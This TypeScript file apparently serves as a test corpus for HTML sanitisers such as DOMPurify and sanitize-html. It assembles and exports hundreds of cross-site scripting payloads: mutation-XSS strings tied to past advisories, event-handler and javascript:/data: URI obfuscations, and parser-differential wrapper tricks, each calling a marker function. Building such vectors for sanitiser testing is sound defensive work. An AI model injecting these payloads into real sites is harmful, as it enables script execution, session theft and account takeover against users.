/**
 * Hostile HTML: what the advisories of DOMPurify and sanitize-html are about, and what follows from combining tags,
 * events, addresses, spellings and wrappers. A page that trusts one of these runs `__pwned()` or `alert()`, if need
 * be after a click; some did so only in the parser that their advisory names.
 */

const call = '__pwned()';
const image = `<img src=x onerror=${call}>`;
const quoted = '&lt;img src=x onerror=__pwned()&gt;';

/** Mutation: harmless when first parsed, active when serialised and parsed again. */
const mutations = [
  // DOMPurify before 2.0.1, 2.0.17, 2.1, 2.2.2, 2.2.3 and 2.2.4: integration points of SVG and MathML.
  `<svg></p><style><a id="</style>${image}">`,
  `<math></p><style><!--</style><img src/onerror=${call}>--></style></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${quoted}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call}&gt;">`,
  `<math><mtext><table><mglyph><style><math>${image}`,
  `<math><mtext><table><mglyph><style><math><table id="</table>">${image}`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${image}"></style></h1>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='${call}'>">`,
  `<math><annotation-xml encoding="text/html"><style><!--</style><img title="--&gt;${quoted}"></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;${quoted}</xmp></annotation-xml></math>`,
  `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->${image}">`,
  `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>${quoted}">`,
  `<svg><title><style><img title="</style>${image}"></style></title></svg>`,
  `<svg><p><style><g title="</style>${image}">`,
  `<svg><style>&lt;/style&gt;${quoted}</style></svg>`,
  `<svg><style><img src="</style>${image}"></style></svg>`,
  `<svg><style>/*</style>${image}*/</style></svg>`,
  `<svg><script>&lt;/script&gt;${call}</script></svg>`,
  `<svg><script>&#95;_pwned&lpar;&rpar;</script></svg>`,
  `<svg><![CDATA[><img title="]]>${image}">`,
  `<svg><![CDATA[]]>${image}<![CDATA[]]></svg>`,
  `<math><mi><style><!--</style>${image}--></style></mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  `<math><ms><style><!--</ms>${image}--></style></math>`,
  // DOMPurify before 2.5.0 and 3.1.3: what a parser flattens below 512 levels.
  `${'<div>'.repeat(508)}<svg><desc><style><a title="</style>${image}">`,
  `${'<b>'.repeat(511)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${image}">`,
  `${'<a>'.repeat(260)}<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<div><table id="o"><caption id="o"><svg><desc><table id="i"><caption id="i"></caption></table></desc><style><a title="</style>${image}"></a></style></svg></caption></table></div>`,
  // DOMPurify before 3.2.4 and 3.3.2: template marks, raw text in attributes, declarations.
  `<math><foo-test><mi><li><table><foo-test><li></li></foo-test>a<a><style><!--\${</style>}<foo-b id="><img src x onerror=${call}>">`,
  `<div id="{{constructor.constructor('__pwned()')()}}">{{constructor.constructor('__pwned()')()}}</div>`,
  `<?xml-stylesheet > <img src=x onerror="${call}"> ?>`,
  `<img alt="<x" title="/>${quoted}">`,
  `<noscript><p title="</noscript>${image}">`,
  `<noscript><style></noscript>${image}</style></noscript>`,
  `<noscript><textarea></noscript>${image}</textarea></noscript>`,
  `<noscript><!--</noscript>${image}--></noscript>`,
  `<p><noscript></p><img title="</noscript>${image}">`,
  `<select><template><style></select>${image}</style></template>`,
  `<select><style></select>${image}</style></select>`,
  `<select><iframe></select>${image}`,
  `<option><style></option></select>${image}</style>`,
  `<table><style><!--</table>${image}--></style>`,
  `<textarea><!--</textarea>${image}-->`,
  `<title><!--</title>${image}-->`,
  `<listing>${quoted}</listing>`,
  `<listing>&amp;lt;img src=x onerror=${call}&amp;gt;</listing>`,
  `<x/><title>&amp;lt;/title&amp;gt;&amp;lt;img src=1 onerror=${call}&gt;`,
  `<template><style></template>${image}</style>`,
  `<div><template shadowrootmode=open>${image}</template></div>`,
  `<form id=f><input name=attributes><input name=nodeName><input name=childNodes autofocus onfocus=${call}></form>`,
  `<form onmouseover=${call}><input name=removeAttribute><input name=attributes></form>`,
  `<a is=x-y onfocus=${call} autofocus tabindex=0>x</a>`,
  `<math href="javascript:${call}"><mi>x</mi></math>`,
];

/**
 * What sanitize-html allowed before 1.4.3, 1.11.4, 2.3.2, 2.17.4, 2.17.6 and later, and what its parser reads
 * differently.
 */
const passages = [
  `a<<img src="x"/>img src=x onerror=${call}>`,
  `<<img src="csrf"/>img src=x onerror=${call}/>`,
  `!<textarea>&lt;/textarea&gt;&lt;svg/onload=${call}&gt;</textarea>!`,
  `<option>&lt;/option&gt;${quoted}</option>`,
  `<xmp><script>${call}</script></xmp>`,
  `<xmp>${image}</xmp>`,
  `<xmp><p title="</xmp>${image}"></xmp>`,
  `<textarea><xmp></textarea>${image}</xmp>`,
  `<svg><textarea>${image}</textarea></svg>`,
  `<svg><xmp>${image}</xmp></svg>`,
  `<textarea></textarea/>${image}`,
  `<script></script/x>${image}`,
  `<style></style\t>${image}`,
  `<title></title x="${image}">`,
  `<iframe><iframe><iframe>${image}</iframe></iframe></iframe>`,
  `${'<iframe>'.repeat(12)}${image}`,
  `<iframe srcdoc="${quoted}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwned()&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<svg onload=${call}>'>`,
  `<iframe src="/\\example.com/" onload=${call}></iframe>`,
  `<iframe src="data:text/html,<script>parent.__pwned()</script>"></iframe>`,
  `<svg><animate attributeName=href values=javascript:${call} /><a id=a><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to=javascript:${call} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call} /></svg>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<p title='"${image}'>x</p>`,
  `<p "onclick=${call}">x</p>`,
  `<p ="${image}">x</p>`,
  `<p a='>'onclick=${call}>x</p>`,
  `<p/onclick=${call}/>x`,
  `<a href="https://x.example" onclick=${call} onclick="">x</a>`,
  `<a __proto__ onclick=${call} constructor=x>x</a>`,
  `<img src="x" alt="\`><script>${call}</script>">`,
  `<img src=\`x\`onerror=${call}>`,
  `<img src='x\`' onerror='${call}'`,
  `<img/src=x/onerror=${call}//`,
  `<img \x0bsrc=x \x0conerror=${call}>`,
  `<img src=x onerror\x00=${call}>`,
  `<i\x00mg src=x onerror=${call}>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `<script/x>${call}</script>`,
  `<script type=text/plain></script><script>${call}</script>`,
  `<script src="data:text/javascript,__pwned()"></script>`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<style>@import "javascript:${call}";</style>`,
  `<p style="background:url(javascript:${call});width:expression(${call})">x</p>`,
  `<table background="javascript:${call}"><td background="javascript:${call}">x</table>`,
  `<base href="javascript:${call}//"><a href="x">x</a>`,
  `<a href="x" id="__data">{"view":{"missing":{"status":404}}}</a><h2 id="main" onclick=${call}>x</h2>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<image src=x onerror=${call}>`,
  `<applet code=x onerror=${call}></applet>`,
  `<bgsound src="javascript:${call}"><layer src="javascript:${call}"></layer>`,
  `<object type=text/html data="data:text/html,<script>parent.__pwned()</script>"></object>`,
  `<object><param name=src value="javascript:${call}"></object>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${call}>x</p>`,
  `<p onclick=alert(1) style="position:fixed;inset:0">x</p>`,
  `<input type=image src=x onerror=alert(document.domain)>`,
  `<svg onload=alert\`1\`>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned()</script>"></iframe></foreignObject></svg>`,
  `<marquee behavior=alternate onbounce=${call} onstart=${call}>x</marquee>`,
];

/** Closings of comments, declarations, instructions, scripts, attributes and templates, for texts inside one. */
const ends = [
  '<!-->',
  '<!--->',
  '<!-- --!>',
  '<!x>',
  '<?x>',
  '<%x>',
  '</>',
  '</ x>',
  '<!doctype x>',
  '<![CDATA[>',
  ']]>',
  '-->',
  '*/',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '" autofocus x=',
  '</p>',
  '</body></html>',
  '\\"}',
  '\\u003c/script>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</xmp>',
  '</noscript>',
  '</svg>',
  '</template>',
  '</select>',
  '<!--<script>',
  '<!--<script></script>',
  '<!--{',
  '${',
  '{{',
  '%3c/script%3e',
  '\u2028',
  '&#0;',
  '\ufeff',
  '+ADw-',
].map((end) => end + image);
const codes = [
  `</script><script>${call}</script>`,
  `<!--<script>--></script><script>${call}</script>`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  `<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="${call}"/>`,
  `'-${call}-'`,
  `";${call}//`,
  `\\";${call}//`,
  `\${${call}}`,
  `javascript:${call}`,
  quoted,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
];

/** Elements with an event that fires automatically, or when somebody looks at or touches them. */
const alive: [tag: string, attributes: string, event: string, more?: string][] = [
  ...(['img', 'audio', 'video', 'embed', 'script', 'iframe', 'input type=image'] as const).flatMap(
    (tag) =>
      [[tag, 'src=x', tag === 'iframe' || tag === 'embed' ? 'onload' : 'onerror']] as [
        string,
        string,
        string,
      ][],
  ),
  ...(
    [
      'input',
      'button',
      'select',
      'textarea',
      'p tabindex=0',
      'a href=#',
      'h3 contenteditable',
    ] as const
  ).map((tag) => [tag, 'autofocus', 'onfocus'] as [string, string, string]),
  ...(['svg', 'body', 'style'] as const).map(
    (tag) => [tag, '', 'onload'] as [string, string, string],
  ),
  ['object', 'data=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['video', '', 'onerror', '<source src=x>'],
  ['video', '', 'onloadstart', '<source src=x>'],
  ['picture', '', 'onerror', '<img src=x>'],
  ['details', 'open', 'ontoggle', '<summary>x</summary>'],
  ['marquee', '', 'onstart', 'x'],
  ['body', '', 'onpageshow'],
  ['svg><image', 'href=x', 'onerror'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['math><mi', '', 'onclick', 'x'],
  ['p', '', 'onclick', 'x'],
  ['div class=table-scroll', '', 'onmouseover', 'x'],
  ['blockquote', '', 'onpointerenter', 'x'],
  ['h2', '', 'onanimationstart', 'x'],
  ['table><tr><td', '', 'onmouseenter', 'x'],
  ['time', '', 'onwheel', 'x'],
  ['span', '', 'oncontentvisibilityautostatechange', 'x'],
  ['abbr', '', 'onbeforeinput', 'x'],
  ['x-y', 'tabindex=0', 'onfocusin', 'x'],
];
const spellings: ((tag: string, attributes: string, event: string) => string)[] = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}=${call}>`,
  (tag, attributes, event) =>
    `<${tag}/${attributes.replace(/=(\S+)/g, '="$1"')}/${event}="${call}"/x>`,
  (tag, attributes, event) => `<${tag} ${attributes} ${event}='&#x5f;&#95;pwned&lpar;&rpar;'>`,
  (tag, attributes, event) =>
    `<${tag.toUpperCase()} ${attributes} ${event.toUpperCase()} = ${call} >`,
  (tag, attributes, event) => `<${tag}\n${attributes}\f${event}\t=\r"${call}"\n>`,
  (tag, attributes, event) => `"'><${tag} ${attributes} ${event}=alert(1) ${event}=x>`,
];
const events = alive.flatMap(([tag, attributes, event, more = '']) =>
  spellings.map((spell) => spell(tag, attributes, event) + more),
);

/** Where an address is that somebody or the browser follows. */
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self rel=opener>x</a>`,
  (address) => `<img src="${address}" alt="x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<map name=m><area shape=default href="${address}"></map>`,
  (address) => `<blockquote cite="${address}"><a href="${address}"><b>x</b></a></blockquote>`,
];
const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&Tab;script&colon;',
  '&#106;avascript:',
  '&#0000106avascript:',
  'javascript&#58;',
  'jav&#x0A;ascript:',
  '&NewLine;javascript:',
  'javascript://x.example/%0a',
  'feed:javascript:',
  'view-source:javascript:',
]
  .map((scheme) => scheme + call)
  .concat(
    'data:text/html,<script>parent.__pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=parent.__pwned()>',
    `vbscript:${call}`,
    'blob:null/x" onerror="__pwned()',
  );
const links = places.flatMap((place) =>
  addresses.map((address) => place(address.replaceAll('<', '&lt;'))),
);

/** Elements whose content is parsed differently from that around them. */
const wrappers = [
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'plaintext',
  'style',
  'script',
  'title',
  'textarea',
  'template',
  'select',
  'option',
  'listing',
  'object',
  'svg',
  'math',
  'table',
  'caption',
  'form',
  'button',
  'frameset',
].flatMap((tag) => [
  `<${tag}>${image}</${tag}>`,
  `<${tag}><a title="</${tag}>${image}">x</a></${tag}>`,
  `<${tag}><${tag}></${tag}>${image}</${tag}>`,
  `<svg><${tag}>${image}</${tag}></svg>`,
  `<math><mtext><${tag}><!--</${tag}>${image}--></mtext></math>`,
]);

const unique = (list: string[]) => [...new Set(list)];

/** Those of the advisories and of known differences between parsers. */
export const advisories = unique([...mutations, ...passages]);

/** All of them. */
export const vectors = unique([...advisories, ...ends, ...codes, ...events, ...links, ...wrappers]);
